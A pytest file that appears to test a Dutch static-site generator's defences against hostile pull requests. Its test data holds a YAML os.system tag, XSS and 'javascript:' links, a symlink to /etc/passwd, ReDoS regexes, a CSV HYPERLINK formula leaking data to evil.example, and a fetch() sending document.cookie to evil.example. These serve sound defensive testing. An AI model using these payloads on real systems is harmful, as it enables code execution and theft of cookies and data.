"""What an untrusted pull request can still try, finding by finding (issue 22, "Hardening, round three").

Each test is named after the finding it covers (``test_22_<finding>_…``). Findings 4, 5 (git history)
and 9 (the editor's local backend) have their tests elsewhere.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from xml.etree import ElementTree

import pathspec
import pytest

from conftest import FIXTURES, ROOT, TODAY, fixture_site, wegwijzer
from wegwijzer.core import check_data
from wegwijzer.core.kinds import KINDS
from wegwijzer.site.build import MARKER
from wegwijzer.site.config import ConfigError, read_site_config
from wegwijzer.site.content import page_problems, unsafe_files
from wegwijzer.site.feeds import FeedEntry, atom_feed
from wegwijzer.site.opendata import cell
from wegwijzer.site.paths import SITE_PAGES, page_url, reserved_places

DEVELOPERS = "@wegwijzer-jeugd-en-veiligheid/ontwikkelaars"
SHIPPED_CONFIG = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")


def project_copy(tmp_path: Path, config: str = SHIPPED_CONFIG) -> Path:
    """What a pull request can change besides data/: the configuration, the pages and the theme."""
    root = tmp_path / "project"
    for name in ("content", "overrides", "data"):
        shutil.copytree(ROOT / name, root / name)
    (root / "mkdocs.yml").write_text(config, encoding="utf-8")
    return root


def changed(old: str, new: str) -> str:
    assert old in SHIPPED_CONFIG, old
    return SHIPPED_CONFIG.replace(old, new, 1)


def config_problems(tmp_path: Path, config: str) -> list[str]:
    """The problems `wegwijzer` finds in a mkdocs.yml; [] when it accepts it."""
    try:
        read_site_config(project_copy(tmp_path, config) / "mkdocs.yml")
    except ConfigError as error:
        return [problem.format() for problem in error.problems]
    return []


# 1. mkdocs.yml is input: read safely, only what the project uses, and owned by the developers ----------


def test_22_1_python_tag_in_mkdocs_yml_runs_nothing(tmp_path):
    marker = tmp_path / "ran"
    root = project_copy(tmp_path, SHIPPED_CONFIG + f"\nsite_author: !!python/object/apply:os.system ['touch {marker}']\n")
    for command in (["validate"], ["build", "--out", str(tmp_path / "site")]):
        result = wegwijzer(*command, cwd=root)
        assert result.returncode != 0 and "Traceback" not in result.stderr
        assert "mkdocs.yml:" in result.stdout + result.stderr and "onbekende tag" in result.stdout + result.stderr
    assert not marker.exists() and not (tmp_path / "site").exists()


@pytest.mark.parametrize("config, field, fragment", [
    (SHIPPED_CONFIG + "\nhooks:\n  - scripts/hook.py\n", "hooks", "een hook is code"),
    (SHIPPED_CONFIG + "\nextra_javascript:\n  - https://evil.example/x.js\n", "extra_javascript[0]", "binnen het project"),
    (SHIPPED_CONFIG + "\nextra_javascript:\n  - //evil.example/x.js\n", "extra_javascript[0]", "binnen het project"),
    (changed("custom_dir: overrides", "custom_dir: /etc"), "theme.custom_dir", "binnen het project"),
    (changed("custom_dir: overrides", "custom_dir: ../../../etc"), "theme.custom_dir", "binnen het project"),
    (changed("  - pymdownx.keys", "  - pymdownx.keys\n  - pymdownx.snippets:\n      base_path: ['/']\n"
                                  "      check_paths: false"), "markdown_extensions[6]", "`pymdownx.snippets` is niet"),
    (changed("site_url: https://wegwijzer-jeugd-en-veiligheid.github.io/toolbox/",
             "site_url: 'https://x.example/\"><script>alert(1)</script>'"), "site_url", "https://"),
    (SHIPPED_CONFIG + "\nrepo_url: 'javascript:alert(document.cookie)//'\n", "repo_url", "https://"),
    (changed("repo_url: https://github.com/wegwijzer-jeugd-en-veiligheid/toolbox", "repo_url: 'javascript:alert(1)//'"),
     "plugins[2].wegwijzer.repo_url", "https://"),
    (changed("      branch: main", "      branch: main\n      editor_auth_url: 'javascript:alert(1)'"),
     "plugins[2].wegwijzer.editor_auth_url", "https://"),
    (changed("      branch: main", "      branch: main\n      editor_auth_url: http://auth.evil.example"),
     "plugins[2].wegwijzer.editor_auth_url", "https://"),
    (changed("  generator: false", "  generator: false\n  wegwijzer:\n    editor_auth_url: https://auth.evil.example"),
     "extra.wegwijzer", "wordt niet gebruikt"),
])
def test_22_1_what_mkdocs_yml_may_not_do_is_refused_at_its_line(tmp_path, config, field, fragment):
    problems = config_problems(tmp_path, config)
    assert any(f": {field}: " in problem and fragment in problem for problem in problems), problems


@pytest.mark.parametrize("config, field", [
    (changed("strict: true", "strict: false"), "strict"),  # content/'s page checks only stop a strict build
    (changed("      branch: main", "      branch: 'main\"><script>alert(1)</script>'"), "plugins[2].wegwijzer.branch"),
    (changed("site_name: Wegwijzer Jeugd en Veiligheid", "site_name: '<img src=x onerror=alert(1)>'"), "site_name"),
    (changed("primary: indigo", "primary: 'indigo\" onmouseover=\"alert(1)'"), "theme.palette.primary"),
    (SHIPPED_CONFIG + "\ncopyright: '<script>alert(1)</script>'\n", "copyright"),
    (changed("  - Start: index.md", "  - Start: index.md\n  - '<svg onload=alert(1)>': over.md"),
     "nav[1].<svg onload=alert(1)>"),
    (SHIPPED_CONFIG + "\nedit_uri: 'javascript:alert(1)//'\n", "edit_uri"),
    (changed("  language: nl", "  language: nl\n  logo: https://tracker.example/logo.png"), "theme.logo"),
    (changed("      branch: main", "      branch: main\n      data_licence: 'javascript:alert(1)'"),
     "plugins[2].wegwijzer.data_licence"),
])
def test_22_1_settings_printed_into_every_page_must_be_plain(tmp_path, config, field):
    """MkDocs and Material print these settings without escaping them; each was accepted before."""
    problems = config_problems(tmp_path, config)
    assert any(f": {field}: " in problem for problem in problems), problems


def test_22_1_the_login_address_is_https_and_the_shipped_configuration_is_accepted(tmp_path):
    assert config_problems(tmp_path, SHIPPED_CONFIG) == []
    helper = changed("      branch: main", "      branch: main\n      editor_auth_url: https://auth.example.org")
    assert config_problems(tmp_path / "helper", helper) == []  # another host is a maintainer's choice: see CODEOWNERS


def test_22_1_a_link_in_the_theme_folder_is_refused(tmp_path):
    root = project_copy(tmp_path)
    (root / "overrides" / "passwd.txt").symlink_to("/etc/passwd")
    with pytest.raises(ConfigError) as raised:
        read_site_config(root / "mkdocs.yml")
    assert "`overrides/passwd.txt` is een snelkoppeling" in raised.value.problems[0].message


def test_22_1_site_url_on_the_command_line_is_checked_too(tmp_path):
    result = wegwijzer("build", "--site-url", 'https://x.example/"><script>alert(1)</script>', "--out",
                       str(tmp_path / "site"))
    assert result.returncode == 2 and "--site-url" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "site").exists()


def test_22_1_validate_reports_mkdocs_yml(tmp_path):
    root = project_copy(tmp_path, changed("strict: true", "strict: false"))
    result = wegwijzer("validate", cwd=root)
    assert result.returncode == 1 and "mkdocs.yml:11:9: strict: `strict` moet `true` zijn" in result.stdout


def test_22_1_plain_mkdocs_build_stops_before_building(tmp_path):
    """MkDocs' own loader has read the file by then (README says so); the plugin refuses to go on."""
    root = project_copy(tmp_path)
    result = subprocess.run([sys.executable, "-m", "mkdocs", "build", "--site-dir", str(tmp_path / "site")], cwd=root,
                            capture_output=True, text=True, timeout=300)
    assert result.returncode != 0 and "Bouw de site met `wegwijzer build`" in result.stdout + result.stderr
    assert not (tmp_path / "site").exists()


def _owners(path: str) -> list[str]:
    """The owners GitHub asks for a file: the last CODEOWNERS line whose pattern matches it."""
    owners: list[str] = []
    for line in (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines():
        if line.strip() and not line.startswith("#"):
            pattern, *names = line.split()
            if pathspec.PathSpec.from_lines("gitwildmatch", [pattern]).match_file(path):
                owners = names
    return owners


@pytest.mark.parametrize("path", [
    "mkdocs.yml", "content/index.md", "content/assets/stylesheets/wegwijzer.css", "Makefile",
    ".github/workflows/site.yml", ".github/CODEOWNERS", "package.json", "package-lock.json", "overrides/main.html",
    "wegwijzer/cli.py", "wegwijzer_dev/bench.py", "scripts/vendor.sh", "pyproject.toml", "requirements.txt",
    "requirements-dev.in", "tests/conftest.py", "pytest.ini", ".ci/run", "data/schema/news.schema.json",
    "hooks/new.py", "conftest.py",  # files a pull request adds
])
def test_22_1_everything_that_changes_what_the_site_runs_belongs_to_the_developers(path):
    assert _owners(path) == [DEVELOPERS]


def test_22_1_editors_own_the_data_and_every_owner_is_a_team():
    assert _owners("data/themes.yaml") == ["@wegwijzer-jeugd-en-veiligheid/redactie-landelijk"]
    assert _owners("data/regions/twente.yaml") == ["@wegwijzer-jeugd-en-veiligheid/redactie-twente"]
    for line in (ROOT / ".github" / "CODEOWNERS").read_text(encoding="utf-8").splitlines():
        if line.strip() and not line.startswith("#"):
            _, *names = line.split()
            assert names and all(name.startswith("@") for name in names), line


# 2. content/: links read as browsers read them, and no scripts -------------------------------------------


@pytest.mark.parametrize("href", [
    "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)", "&#1;javascript:alert(1)",
    " &#31; javascript:alert(1)", "jav&Tab;ascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "&#32;//evil.example/x", "/\\evil.example",
])
def test_22_2_links_a_browser_reads_as_script_or_elsewhere_are_refused(href):
    html = f'<p>Lees <a href="{href}">dit</a>.</p>'
    [problem] = page_problems(html, f"# Over\n\n{html}\n", "content/over.md")
    assert problem.line == 3 and problem.message.startswith("link `") and "is niet toegestaan" in problem.message


@pytest.mark.parametrize("src", ["&#9;https://tracker.example/p.png", "\x01//tracker.example/p.png",
                                 "\\\\tracker.example\\p.png"])
def test_22_2_images_from_elsewhere_are_refused_however_written(src):
    [problem] = page_problems(f'<p><img alt="x" src="{src}"></p>', "", "content/over.md")
    assert "een afbeelding moet in content/ staan" in problem.message


def test_22_2_links_that_stay_in_the_site_or_go_to_the_web_are_fine():
    html = ('<p><a href="interventies/">a</a> <a href="#doel">b</a> <a href="https://www.nji.nl/">c</a> '
            '<a href="mailto:info@example.org">d</a> <img alt="e" src="assets/images/e.png"></p>')
    assert page_problems(html, "", "content/over.md") == []


def test_22_2_a_script_in_content_is_refused(tmp_path):
    """A content-only pull request could append code to a script every page loads; the site's own scripts
    live in overrides/ now (owned by the developers), and content/ publishes none."""
    root = project_copy(tmp_path)
    scripts = root / "content" / "assets" / "javascripts" / "wegwijzer"
    scripts.mkdir(parents=True)
    (scripts / "finder.js").write_text("fetch('https://evil.example/?' + document.cookie);\n", encoding="utf-8")
    (root / "content" / "extra.mjs").write_text("export {};\n", encoding="utf-8")
    messages = [problem.format() for problem in unsafe_files(root / "content")]
    assert any(m.startswith("content/assets/javascripts/wegwijzer/finder.js:1:1: (bestand): scripts worden niet")
               for m in messages), messages
    assert any(m.startswith("content/extra.mjs:1:1:") for m in messages), messages
    assert not list((ROOT / "content").rglob("*.js"))
    assert (ROOT / "overrides" / "assets" / "javascripts" / "wegwijzer" / "finder.js").is_file()
    assert _owners("overrides/assets/javascripts/wegwijzer/finder.js") == [DEVELOPERS]


# 3. The open-data CSV runs no formula -------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Klik")'


def test_22_3_text_that_starts_a_formula_stays_text_in_the_csv(minimal_copy):
    path = minimal_copy / "interventions.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(
        "    name: Lespakket Weerbaar\n",
        f"    name: '{FORMULA}'\n    cost: '+31 euro per leerling'\n    goal: ' @SUM(A1)'\n", 1).replace(
        "    name: Training Weerbaar\n", "    name: \"\\t-2+3\"\n", 1), encoding="utf-8")
    site = fixture_site(TODAY, minimal_copy)
    table = site.files()["open-data/csv/interventions.csv"].lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(table), delimiter=";"))
    first, second = rows[0], rows[1]
    assert first["name"] == "'" + FORMULA and first["cost"] == "'+31 euro per leerling"
    assert first["goal"] == "' @SUM(A1)" and second["name"] == "'\t-2+3"
    assert first["age"] == '{"min": 12, "max": 16}'  # groups of fields stay JSON
    live = [value for row in rows for value in row.values() if value and value.lstrip(" \t\r\n")[:1] in "=+-@"]
    assert live == []
    catalogue = json.loads(site.files()["open-data/wegwijzer.json"])
    assert catalogue["interventions"][0]["name"] == FORMULA  # the JSON keeps the text as it is


@pytest.mark.parametrize("value, written", [(-5, "-5"), (2.5, "2.5"), (["=a", "b"], "'=a; b"), ("gratis", "gratis"),
                                            ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"), ("", "")])
def test_22_3_numbers_stay_numbers_and_lists_are_one_cell(value, written):
    assert cell(value) == written


# 6. Numbers and dates are bounded where they are read -------------------------------------------------


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def errors_of(data_dir: Path) -> list[str]:
    return [problem.format() for problem in check_data(data_dir, today=TODAY).errors]


@pytest.mark.parametrize("written, field", [
    ("value: 1" + "0" * 399 + ".5", "figures[0].value"),
    ("value: 1" + "0" * 5000, "figures[0].value"),  # more digits than Python converts: broke validate itself
    ("value: 1.0e999", "figures[0].value"),  # was "waarde ontbreekt"
    ("value: -1.0e999", "figures[0].value"),
    ("value: !!float .nan", "figures[0].value"),
    ("value: 1000000000000000", "figures[0].value"),
])
def test_22_6_a_number_beyond_fifteen_digits_is_refused_naming_its_field(minimal_copy, written, field):
    edit(minimal_copy / "figures.yaml", "value: 1268\n", written + "\n")
    [message] = errors_of(minimal_copy)
    assert message.startswith(f"data/figures.yaml:4:12: {field}: getal `") and "hoogstens 15 cijfers" in message
    assert "ontbreekt" not in message


@pytest.mark.parametrize("value", ["1.7e308", "-1.7e308"])
def test_22_6_series_values_near_the_largest_float_are_refused(minimal_copy, value):
    """The chart summed them to infinity and the build crashed."""
    edit(minimal_copy / "figures.yaml", "{period: '2022', value: 1268}", f"{{period: '2022', value: {value}}}")
    [message] = errors_of(minimal_copy)
    assert message.startswith(f"data/figures.yaml:12:33: figures[0].series[1].value: getal `{value}` kan niet")


def test_22_6_numbers_within_bounds_still_read(minimal_copy):
    edit(minimal_copy / "figures.yaml", "value: 1268\n", "value: 999999999999999\n")
    edit(minimal_copy / "figures.yaml", "{period: '2019', value: 315}", "{period: '2019', value: -2.5e-7}")
    assert errors_of(minimal_copy) == []


def test_22_6_a_huge_integer_never_gives_a_traceback(data_copy):
    edit(data_copy / "figures.yaml", "    value: ", "    value: 1" + "0" * 5000 + "\n    x_value: ")
    result = wegwijzer("validate", "--data", str(data_copy))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert re.search(r"data/figures\.yaml:\d+:12: figures\[0\]\.value: getal `100000000000…` kan niet", result.stdout)


@pytest.mark.parametrize("file, old, new, message", [
    ("events/inleverweek.yaml", "ends: 2021-10-17", "ends: 9999-12-31",
     "data/events/inleverweek.yaml:5:7: ends: `9999-12-31` ligt niet tussen 1800 en 2100"),
    ("events/inleverweek.yaml", "starts: 2021-10-11", "starts: 2021-10-11T24:30",
     "data/events/inleverweek.yaml:4:9: starts: `2021-10-11T24:30` is geen bestaande tijd"),
    ("news/jaarplan.yaml", "date: '2023'", "date: '2023-13'",
     "data/news/jaarplan.yaml:3:7: date: `2023-13` is geen bestaande datum: een maand is 01 tot en met 12"),
    ("news/jaarplan.yaml", "date: '2023'", "date: '2023-00'",
     "data/news/jaarplan.yaml:3:7: date: `2023-00` is geen bestaande datum"),
    ("news/jaarplan.yaml", "date: '2023'", "date: '2023-02-30'",
     "data/news/jaarplan.yaml:3:7: date: `2023-02-30` is geen bestaande datum: februari 2023 heeft 28 dagen"),
    ("news/jaarplan.yaml", "date: '2023'", "date: '9999-12-31'",
     "data/news/jaarplan.yaml:3:7: date: `9999-12-31` ligt niet tussen 1800 en 2100"),
    ("news/jaarplan.yaml", "date: '2023'", f"date: '{TODAY.year + 1}'",
     f"data/news/jaarplan.yaml:3:7: date: datum {TODAY.year + 1} ligt in de toekomst"),
])
def test_22_6_dates_must_exist_and_lie_in_the_years_a_date_can_have(minimal_copy, file, old, new, message):
    edit(minimal_copy / file, old, new)
    messages = errors_of(minimal_copy)
    assert any(m.startswith(message) for m in messages), messages


def test_22_6_a_month_or_year_in_the_past_is_a_fine_news_date(minimal_copy):
    edit(minimal_copy / "news/jaarplan.yaml", "date: '2023'", f"date: '{TODAY.year}-{TODAY.month:02d}'")
    assert errors_of(minimal_copy) == []


@pytest.mark.parametrize("character, name", [("\u2028", "U+2028 (regelscheiding)"),
                                             ("\u0085", "U+0085 (volgende regel)"),
                                             ("\u2029", "U+2029 (alineascheiding)")])
def test_22_6_a_raw_line_separator_is_named(minimal_copy, character, name):
    edit(minimal_copy / "news/jaarplan.yaml", "name: Jaarplan van de regio", f"name: Jaarplan{character}van de regio")
    [message] = errors_of(minimal_copy)
    assert message.startswith(f"data/news/jaarplan.yaml:2:15: (bestand): onzichtbaar teken {name} gevonden")


@pytest.mark.parametrize("escaped", ["\\u2028", "\\x85", "\\ufffe", "\\u009b"])
def test_22_6_an_escaped_invisible_character_is_refused_and_shown(minimal_copy, escaped):
    edit(minimal_copy / "news/jaarplan.yaml", "name: Jaarplan van de regio", f'name: "Jaarplan{escaped} van de regio"')
    [message] = errors_of(minimal_copy)
    assert message.startswith("data/news/jaarplan.yaml:2:7: name: bevat een onzichtbaar stuurteken")
    code = escaped.encode().decode("unicode_escape")
    assert f"\\u{ord(code):04x}" in message


# 8. Feeds stay well-formed; concurrent builds take turns -----------------------------------------------


def test_22_8_a_title_with_a_character_xml_cannot_hold_keeps_the_feed_well_formed():
    entries = [FeedEntry("jaarplan", "Jaarplan\ufffe van de regio\x01", dt.date(2023, 1, 1), "https://x.example/a/",
                         "Samenvatting\uffff met \ud800")]
    feed = ElementTree.fromstring(atom_feed("Nieuws\ufffe", "nieuws", "https://x.example/nieuws.xml",
                                            "https://x.example/", entries, author="Redactie"))
    title = feed.find("{http://www.w3.org/2005/Atom}entry/{http://www.w3.org/2005/Atom}title").text
    assert title == "Jaarplan\ufffd van de regio\ufffd"


def test_22_8_the_news_feed_of_a_site_is_well_formed(minimal_copy):
    site = fixture_site(TODAY, minimal_copy)
    ElementTree.fromstring(site.files()["actueel/nieuws.xml"])  # raises when ill-formed


@pytest.mark.slow
def test_22_8_eight_concurrent_builds_into_one_folder_all_succeed(tmp_path):
    out = tmp_path / "site"
    command = [sys.executable, "-m", "wegwijzer", "build", "--data", str(FIXTURES / "minimal"), "--today",
               TODAY.isoformat(), "--out", str(out)]
    builds = [subprocess.Popen(command, cwd=ROOT,
                               stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True) for _ in range(8)]
    failures = [stderr for build in builds if (stderr := build.communicate(timeout=600)[1]) and build.returncode]
    assert failures == [] and all(build.returncode == 0 for build in builds)
    assert (out / MARKER).is_file() and (out / "index.html").is_file() and (out / "actueel" / "nieuws.xml").is_file()
    assert [path for path in tmp_path.iterdir() if path.is_dir()] == [out]  # no temporary folder left


# 10. Schemas are input: patterns on a linear-time engine, every annotation known ------------------------


def set_definition_pattern(schema_dir: Path, definition: str, pattern: str) -> None:
    path = schema_dir / "common.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    schema["$defs"][definition]["pattern"] = pattern
    path.write_text(json.dumps(schema), encoding="utf-8")


def test_22_10_a_unicode_class_the_schema_engine_accepts_does_not_crash_the_validator(minimal_copy):
    set_definition_pattern(minimal_copy / "schema", "organisation_email", r"^\p{Ll}+@[a-z0-9-]+(\.[a-z0-9-]+)+$")
    edit(minimal_copy / "partners.yaml", "role: Kenniscentrum voor preventie.",
         "role: Kenniscentrum voor preventie; mail info@hetccv.nl of jan.de.vries@hetccv.nl.")
    [message] = errors_of(minimal_copy)  # Python's `re` knows no \p{…}: the validator itself crashed
    assert "jan.de.vries@hetccv.nl` lijkt het e-mailadres van een persoon" in message


def test_22_10_a_catastrophic_pattern_cannot_hang_validation(minimal_copy):
    set_definition_pattern(minimal_copy / "schema", "organisation_email", r"^([a-z]+)+@x\.nl$")
    set_definition_pattern(minimal_copy / "schema", "text", r"^(\s*[a-z;.@ ]+)+$")
    edit(minimal_copy / "partners.yaml", "role: Kenniscentrum voor preventie.",
         f"role: 'mail {'a' * 40}@y.nl!'")
    result = wegwijzer("validate", "--data", str(minimal_copy), timeout=60)  # exponential in Python's `re`: hours
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "lijkt het e-mailadres van een persoon" in result.stdout


@pytest.mark.parametrize("pattern", [r"^(?!x)[a-z]+$", r"^(a+)\1$", r"^(unclosed"])
def test_22_10_a_pattern_the_engine_cannot_run_is_named_in_its_schema(minimal_copy, pattern):
    set_definition_pattern(minimal_copy / "schema", "phone", pattern)
    [message] = errors_of(minimal_copy)
    assert message.startswith("data/schema/common.schema.json:1:1: $defs.phone.pattern: patroon `")
    assert "is onbruikbaar" in message


@pytest.mark.parametrize("annotation, value", [("x-kind", "onbekend"), ("x-ref", "nieuws"), ("x-kind", 7)])
def test_22_10_an_unknown_kind_in_a_schema_is_named_not_a_key_error(minimal_copy, annotation, value):
    path = minimal_copy / "schema" / "news.schema.json"
    schema = json.loads(path.read_text(encoding="utf-8"))
    target = schema if annotation == "x-kind" else schema["properties"]["themes"]
    target[annotation] = value
    path.write_text(json.dumps(schema), encoding="utf-8")
    result = check_data(minimal_copy, today=TODAY)
    [message] = [problem.format() for problem in result.errors]
    where = annotation if annotation == "x-kind" else f"properties.themes.{annotation}"
    assert message.startswith(f"data/schema/news.schema.json:1:1: {where}: `{annotation}: {value}` is geen soort")
    validate = wegwijzer("validate", "--data", str(minimal_copy))
    assert validate.returncode == 1 and "Traceback" not in validate.stderr


# 7. One table of reserved places; no page silently replaces another ----------------------------------------


def test_22_7_a_news_id_cannot_take_the_archives_place(tmp_path):
    root = project_copy(tmp_path)
    news = sorted((root / "data" / "news").glob("*.yaml"))[0]
    (root / "data" / "news" / "archief.yaml").write_text(
        re.sub(r"(?m)^id: .*$", "id: archief", news.read_text(encoding="utf-8")), encoding="utf-8")
    result = wegwijzer("validate", cwd=root)
    assert result.returncode == 1
    assert re.search(r"data/news/archief\.yaml:\d+:1: id: id `archief` kan niet: op die plek \(actueel/archief/\) "
                     r"staat het nieuwsarchief; kies een ander id", result.stdout), result.stdout


@pytest.mark.parametrize("page, message", [
    ("admin.md", "content/admin.md:1:1: (bestand): op deze plek (admin/) komt al de formulier-editor"),
    ("admin/index.md", "content/admin/index.md:1:1: (bestand): op deze plek (admin/) komt al de formulier-editor"),
    ("open-data/index.md", "content/open-data/index.md:1:1: (bestand): op deze plek (open-data/) komt al "
                           "content/open-data.md"),
    ("actueel/archief/index.md", "content/actueel/archief/index.md:1:1: (bestand): op deze plek (actueel/archief/) "
                                 "komt al het nieuwsarchief"),
    ("interventies.md", "content/interventies.md:1:1: (bestand): op deze plek (interventies/) komt al het overzicht "
                        "van de interventies"),
])
def test_22_7_a_content_page_cannot_replace_a_page_of_the_build_or_another_page(tmp_path, page, message):
    root = project_copy(tmp_path)
    (root / "content" / page).parent.mkdir(parents=True, exist_ok=True)
    (root / "content" / page).write_text("# Vervangen\n", encoding="utf-8")
    result = wegwijzer("validate", cwd=root)
    assert result.returncode == 1 and message in result.stdout, result.stdout
    assert "1 fout(en)" in result.stdout


def test_22_7_every_place_the_build_fills_is_in_the_table():
    """The optional archive holds its place even when it is not made; overviews and fixed pages are there too."""
    places = reserved_places(use_directory_urls=True)
    assert places["actueel/archief/"] == "het nieuwsarchief" and places["interventiematrix/"]
    assert {page_url(page.path, True) for page in SITE_PAGES} <= set(places)
    assert len(places) == len(SITE_PAGES) + sum(bool(k.overview_page) + bool(k.page) for k in KINDS)  # no two alike
    assert reserved_places(use_directory_urls=False)["actueel/archief.html"] == "het nieuwsarchief"
